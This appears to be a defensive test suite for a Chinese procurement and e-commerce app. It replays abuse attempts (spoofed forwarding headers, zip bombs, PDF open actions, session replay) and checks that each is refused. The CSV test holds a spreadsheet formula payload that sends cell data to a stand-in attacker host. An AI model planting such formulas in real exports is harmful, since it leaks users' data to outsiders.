import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { sql } from 'drizzle-orm';
import { describe, expect, it, vi } from 'vitest';
import { getDb, rowsOf } from '@/db/client';
import { escapeNames, pdfFixture } from '@/lib/media/fixtures';
import { request, session } from '@/scripts/test-support/abuse/request';
import {
  act,
  guestOrder,
  onPostgres,
  signInAs,
  useIdleCluster,
  usePinnedClock,
} from '@/scripts/test-support/abuse/world';
import { one } from '@/scripts/test-support/database';
import { address, contact, orderRequest } from '@/scripts/test-support/orders';
import { writesNothing } from '@/scripts/test-support/xid';
import { xlsxWithRows } from '@/scripts/test-support/zip';

/**
 * Issue 13, attacked as an attacker would: each item of its "Why" reproduced against the real code on
 * PostgreSQL, refused, and nothing written. "Nothing written" is the fuzz suite's check: any write, even
 * one rolled back, consumes a PostgreSQL transaction id, and reads do not. Transaction ids are counted
 * per cluster, so this file runs on a cluster of its own (scripts/test-support/abuse/world.ts). Items 6
 * (stored files' headers) and 9 (the sweep's invalidations), which count no transaction ids, are in
 * abuse-platform.test.ts. PGlite: skipped, see the end of the file.
 */
vi.mock('@/lib/auth/auth', async () => (await import('@/scripts/test-support/abuse/request')).fakeAuth);
vi.mock('next/headers', async () => (await import('@/scripts/test-support/abuse/request')).fakeHeaders);
vi.mock('next/cache', async () => (await import('@/scripts/test-support/abuse/request')).strictNextCache);
// The defaults of lib/env.ts (vitest.config.ts lifts the open-order cap for the other test files).
vi.stubEnv('GUEST_MAX_OPEN_ORDERS', '3');

useIdleCluster();

let seq = 0;
const from = (n = ++seq) => `203.0.113.${n % 250}`;

describe.skipIf(!onPostgres)('abuse resistance (issue 13) on PostgreSQL', () => {
  usePinnedClock();

  it('1. a spoofed X-Forwarded-For no longer buys fresh tries: the socket address counts (0 and 1 trusted hops)', async () => {
    const { installClientAddressHook } = await import('@/lib/http/client-address');
    const { POST: login } = await import('@/app/api/auth/login/route');
    for (const hops of [0, 1]) {
      const uninstall = installClientAddressHook(hops);
      // A real HTTP server: Node's hook rewrites the header from the socket before the route sees it.
      const server = createServer(async (req: IncomingMessage, res) => {
        const body = await new Promise<string>((ok) => {
          let b = '';
          req.on('data', (c) => (b += c));
          req.on('end', () => ok(b));
        });
        const headers = new Headers();
        for (const [k, v] of Object.entries(req.headers)) if (typeof v === 'string') headers.set(k, v);
        const out = await login(new Request('http://t/api/auth/login', { method: 'POST', headers, body }));
        res.writeHead(out.status, Object.fromEntries(out.headers));
        res.end(await out.text());
      });
      await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
      // Behind one proxy, the entry the proxy appended is the client; with none, the socket is.
      const proxyAdds = hops ? '198.51.100.77' : undefined;
      const post = (i: number, loginName: string, password: string) =>
        fetch(url, {
          method: 'POST',
          headers: {
            'content-type': 'application/json',
            'x-forwarded-for': [`10.${hops}.0.${i}`, proxyAdds].filter(Boolean).join(', '),
          },
          body: JSON.stringify({ login: loginName, password }),
        });
      for (let i = 1; i <= 5; i++) expect((await post(i, `nobody${i}-${hops}@example.com`, 'wrong')).status).toBe(401);
      // A sixth try, on another account, from yet another claimed address: refused, nothing written.
      const sixth = await writesNothing(() => post(6, `admin@example.com`, 'demo12345'));
      expect(sixth.status).toBe(429);
      expect(Number(sixth.headers.get('retry-after'))).toBeGreaterThan(0);
      expect(((await sixth.json()) as { error: { message: string } }).error.message).toMatch(
        /登录失败次数过多，请 \d+ 秒后再试/,
      );
      server.close();
      uninstall();
    }
  });

  it('1. the guest lookup: a handful of wrong mobiles closes that order, from any address; the right one then gets nothing', async () => {
    const { lookupOrderAction } = await import('./orders');
    const order = await guestOrder('王秀兰', '13611111111');
    session.current = null;
    for (let i = 0; i < 5; i++) {
      request.address = from();
      const r = await act(lookupOrderAction, { orderNo: order.orderNo, mobile: `136000000${10 + i}` });
      expect(r).toMatchObject({ ok: false, code: 'not_found' });
    }
    request.address = from();
    const right = await writesNothing(() => act(lookupOrderAction, { orderNo: order.orderNo, mobile: '13611111111' }));
    expect(right).toMatchObject({
      ok: false,
      code: 'rate_limited',
      error: expect.stringMatching(/错误次数过多，请 \d+ (分钟|秒)后再试/),
    });
  });

  it('3. the lookup cookie reads the order but never cancels or pays it', async () => {
    const { cancelSimulatedPaymentAction, confirmSimulatedPaymentAction, lookupOrderAction } = await import('./orders');
    const order = await guestOrder('李秀英', '13622222222');
    session.current = null;
    request.jar.clear();
    request.address = from();
    expect(await act(lookupOrderAction, { orderNo: order.orderNo, mobile: '13622222222' })).toMatchObject({ ok: true });
    expect([...request.jar.keys()].some((k) => k.endsWith('_v'))).toBe(true);
    for (const attack of [cancelSimulatedPaymentAction, confirmSimulatedPaymentAction]) {
      const r = await writesNothing(() => act(attack, { orderNo: order.orderNo }));
      expect(r).toMatchObject({ ok: false, code: 'not_found' });
    }
    const status = await one<{ s: string }>(sql`select status as s from orders where order_no = ${order.orderNo}`);
    expect(status.s).toBe('pending_payment');
    request.jar.clear();
  });

  it('2. anonymous stock hoarding: 50 lines × 10,000 units, and a fourth open order, are refused; guests hold 15 minutes', async () => {
    const { POST } = await import('@/app/api/v1/orders/route');
    // The address as the client-address hook leaves it (tested above): one X-Forwarded-For entry.
    const addr = { 'x-forwarded-for': '198.51.100.200' };
    const slugs = rowsOf<{ slug: string }>(
      await getDb().execute(sql`select slug from products where status = 'listed' and stock > 0 order by id limit 50`),
    ).map((r) => r.slug);
    const hoard = await writesNothing(() =>
      POST(
        orderRequest(
          {
            items: slugs.map((slug) => ({ slug, quantity: 10_000 })),
            contact,
            shippingAddress: address,
            paymentMethod: 'simulated',
          },
          addr,
        ),
      ),
    );
    expect(hoard.status).toBe(400);
    expect(((await hoard.json()) as { error: { message: string } }).error.message).toMatch(/每种商品每单最多 20 件/);

    const small = () =>
      POST(
        orderRequest(
          {
            items: [{ slug: 'manhao-bananas', quantity: 2 }],
            contact: { name: '甲', mobile: '13933333333' },
            shippingAddress: address,
            paymentMethod: 'simulated',
          },
          addr,
        ),
      );
    const created = [];
    for (let i = 0; i < 3; i++) {
      const r = await small();
      expect(r.status).toBe(201);
      created.push((await r.json()) as { expiresAt: string });
    }
    const minutes = (Date.parse(created[0]!.expiresAt) - Date.now()) / 60_000;
    expect(minutes).toBeGreaterThan(13);
    expect(minutes).toBeLessThanOrEqual(15);
    const fourth = await writesNothing(small);
    expect(fourth.status).toBe(429);
    expect(Number(fourth.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(((await fourth.json()) as { error: { message: string } }).error.message).toMatch(/已有多笔待付款订单/);
  });

  it("5. separation of duties: an administrator's own second account cannot approve their 采购单; the office can", async () => {
    const { registerUnitAction, inviteUnitMemberAction } = await import('./units');
    const { acceptInviteAction } = await import('./invites');
    const { verifyUnitAction } = await import('./admin');
    const { submitPurchaseOrderAction, decidePurchaseOrderAction, officeDecidePurchaseOrderAction } =
      await import('./unit-orders');
    const { withCreditCodeCheck } = await import('@/domain/credit-code');
    session.current = null;
    request.address = from();
    const creditCode = withCreditCodeCheck(`11532501${String(Date.now()).slice(-9)}`);
    const adminLogin = `po-admin-${Date.now()}@example.com`;
    expect(
      await act(registerUnitAction, {
        unitName: '个旧市测试局（演示）',
        creditCode,
        unitType: 'admin_agency',
        contactName: '刘局',
        contactMobile: '13944444444',
        login: adminLogin,
        password: 'unit-admin-password',
      }),
    ).toMatchObject({ ok: true });
    const unitId = (await one<{ id: string }>(sql`select id from units where credit_code = ${creditCode}`)).id;
    await signInAs('admin@example.com');
    expect(await act(verifyUnitAction, { unitId })).toMatchObject({ ok: true });
    await signInAs(adminLogin);
    const invite = await act(inviteUnitMemberAction, { unitId, role: 'approver', inviteeName: '刘局小号' });
    const token = invite.data!.invitePath!.split('/').pop()!;
    session.current = null;
    expect(
      await act(acceptInviteAction, {
        token,
        name: '刘局小号',
        login: `${adminLogin}.alt`,
        password: 'second-account-pw',
      }),
    ).toMatchObject({ ok: true });
    await signInAs(adminLogin);
    const submitted = await act(submitPurchaseOrderAction, {
      unitId,
      lines: 'GJ0020 10',
      paymentTerms: 'prepay',
      fundSource: 'canteen',
      contactName: '刘局',
      contactMobile: '13944444444',
      province: '云南省',
      city: '红河哈尼族彝族自治州',
      district: '个旧市',
      detail: '金湖东路 1 号',
    });
    expect(submitted).toMatchObject({ ok: true, data: { approval: 'office' } });
    expect((submitted as { message?: string }).message).toMatch(/将由个旧市消费扶贫办公室审批/);
    const orderNo = submitted.data!.orderNo!;
    await signInAs(`${adminLogin}.alt`);
    const self = await writesNothing(() => act(decidePurchaseOrderAction, { orderNo, decision: 'approve' }));
    expect(self).toMatchObject({ ok: false, code: 'forbidden' });
    await signInAs('admin@example.com');
    expect(await act(officeDecidePurchaseOrderAction, { orderNo, decision: 'approve' })).toMatchObject({ ok: true });
    expect((await one<{ s: string }>(sql`select status as s from orders where order_no = ${orderNo}`)).s).toBe(
      'pending_payment',
    );
  });

  it('4. CSV exports: a unit named as a formula lands as text, never as a live formula', async () => {
    const evil = '=HYPERLINK("https://evil.example/?d="&C2,"点此核对")';
    await getDb().execute(
      sql`insert into units (name, credit_code, type, contact_name, status) values (${evil}, ${`EVIL${Date.now()}`}, 'other', '某', 'verified')`,
    );
    const { GET } = await import('@/app/admin/pledges/export/route');
    await signInAs('admin@example.com');
    const res = await writesNothing(() => GET(new Request('http://t/admin/pledges/export?format=csv')));
    const csv = await res.text();
    expect(csv).toContain(`"'=HYPERLINK(`);
    for (const line of csv.split('\r\n'))
      for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]/);
  });

  it('3 (zip bomb) and 6 (files): a bomb, escaped PDF names and a hidden open action are refused, nothing written', async () => {
    const { submitPurchaseOrderAction } = await import('./unit-orders');
    const { submitCertificateAction } = await import('./listings');
    await signInAs('unit@example.com');
    const unitId = (
      await one<{ id: string }>(sql`select unit_id as id from unit_members where user_id = ${session.current!.user.id}`)
    ).id;
    const bomb = new File([new Uint8Array(xlsxWithRows(1_000_000, { bomb: true }))], '慰问品.xlsx');
    const r = await writesNothing(() =>
      act(submitPurchaseOrderAction, {
        unitId,
        file: bomb,
        paymentTerms: 'prepay',
        fundSource: 'canteen',
        contactName: '张',
        contactMobile: '13955555555',
        province: '云南省',
        city: '红河',
        district: '个旧市',
        detail: '机关大院 1 号',
      }),
    );
    expect(r).toMatchObject({ ok: false, code: 'invalid_input', error: expect.stringMatching(/解压后过大/) });

    await signInAs('workshop@example.com');
    const productId = (
      await one<{ id: number }>(
        sql`select p.id from products p join supplier_members m on m.supplier_id = p.supplier_id join users u on u.id = m.user_id where u.email = 'workshop@example.com' limit 1`,
      )
    ).id;
    for (const pdf of [
      escapeNames(await pdfFixture({ openAction: true })),
      await pdfFixture({ openAction: true, objectStreams: true }),
    ]) {
      const refused = await writesNothing(() =>
        act(submitCertificateAction, {
          productId: String(productId),
          certificateNo: `X-${Date.now()}`,
          issuer: '个旧市扶贫办',
          catalogueBatch: '第一批',
          issuedOn: '2026-01-01',
          expiresOn: '2028-01-01',
          file: new File([Buffer.from(pdf)], 'cert.pdf'),
        }),
      );
      expect(refused).toMatchObject({ ok: false, code: 'invalid_input' });
    }
  });

  it('7. sessions: logout ends a copied session; common and short passwords are refused; the owner is delayed, not locked', async () => {
    const { signOutAction, registerAction } = await import('./accounts');
    const { requireUser } = await import('@/lib/auth/guards');
    await signInAs('buyer@example.com');
    const copied = session.current!;
    expect(await act(signOutAction, {})).toMatchObject({ ok: true });
    session.current = copied; // the cookie copied before logout, replayed
    await expect(writesNothing(() => requireUser())).rejects.toMatchObject({ code: 'unauthorized' });

    session.current = null;
    for (const password of ['12345678', 'password', '1234567890', 'password123!']) {
      request.address = from();
      const r = await writesNothing(() =>
        act(registerAction, { name: '测试', login: `weak${++seq}@example.com`, password }),
      );
      expect(r).toMatchObject({ ok: false, code: 'invalid_input' });
      expect((r as { fieldErrors?: Record<string, string> }).fieldErrors?.password).toMatch(/[\u4e00-\u9fff]/);
    }
    // Registration no longer enumerates e-mails without limit.
    request.address = '198.51.100.99';
    for (let i = 0; i < 10; i++)
      expect(
        await act(registerAction, { name: '测试', login: 'buyer@example.com', password: 'a-good-password' }),
      ).toMatchObject({
        ok: false,
        code: 'conflict',
      });
    const eleventh = await writesNothing(() =>
      act(registerAction, { name: '测试', login: 'buyer@example.com', password: 'a-good-password' }),
    );
    expect(eleventh).toMatchObject({ ok: false, code: 'rate_limited' });

    // Five wrong passwords no longer lock the admin for 15 minutes: the owner waits 30 seconds.
    const { checkLogin } = await import('@/lib/auth/login');
    for (let i = 0; i < 5; i++)
      expect(await checkLogin({ login: 'coop@example.com', password: `wrong-${i}`, address: from() })).toMatchObject({
        code: 'invalid',
      });
    const throttled = await writesNothing(() =>
      checkLogin({ login: 'coop@example.com', password: 'demo12345', address: from() }),
    );
    expect(throttled).toMatchObject({ ok: false, code: 'rate_limited' });
    expect((throttled as { retryAfterSeconds: number }).retryAfterSeconds).toBeLessThanOrEqual(30);
    vi.setSystemTime(Date.now() + 31_000);
    expect(await checkLogin({ login: 'coop@example.com', password: 'demo12345', address: from() })).toMatchObject({
      ok: true,
    });
  });

  it('8. status codes: malformed escapes are a 400 page, unknown products a 404 and a portal without the role a 403', async () => {
    const { proxy } = await import('@/proxy');
    const { pageStatus } = await import('@/lib/http/status-gate');
    const { NextRequest } = await import('next/server');
    for (const path of ['/verify/abc%2', '/products/abc%2', '/orders/abc%2']) {
      const res = await writesNothing(() => proxy(new NextRequest(`http://t${path}`)));
      expect(res.status).toBe(400);
      expect(await res.text()).toContain('链接无效');
    }
    const { encode } = await import('next-auth/jwt');
    const buyer = await one<{ id: string; v: number }>(
      sql`select id, session_version as v from users where email = 'unit@example.com'`,
    );
    const name = 'authjs.session-token';
    const jwt = await encode({ token: { uid: buyer.id, sv: buyer.v }, secret: process.env.AUTH_SECRET!, salt: name });
    const as = (path: string) => new NextRequest(`http://t${path}`, { headers: { cookie: `${name}=${jwt}` } });
    expect(await pageStatus(as('/admin'))).toBe(403);
    expect(await pageStatus(as('/unit'))).toBeNull();
    expect(await pageStatus(as('/products/no-such-product'))).toBe(404);
    expect(await pageStatus(as('/products/manhao-bananas'))).toBeNull();
    expect(await pageStatus(as('/verify/NO-SUCH-CERT'))).toBe(404);
    expect(await pageStatus(as('/orders/GJ20200101-000001'))).toBe(404);
  });
});

// PGlite has no other clients, so its transaction ids would prove the same thing, but the rate limits,
// advisory locks and shared windows these attacks meet are PostgreSQL's: the file runs on PostgreSQL only.
describe.skipIf(onPostgres)('abuse resistance (PostgreSQL only)', () => {
  it('runs in the db-postgres project (DATABASE_URL set)', () => {
    expect(onPostgres).toBe(false);
  });
});
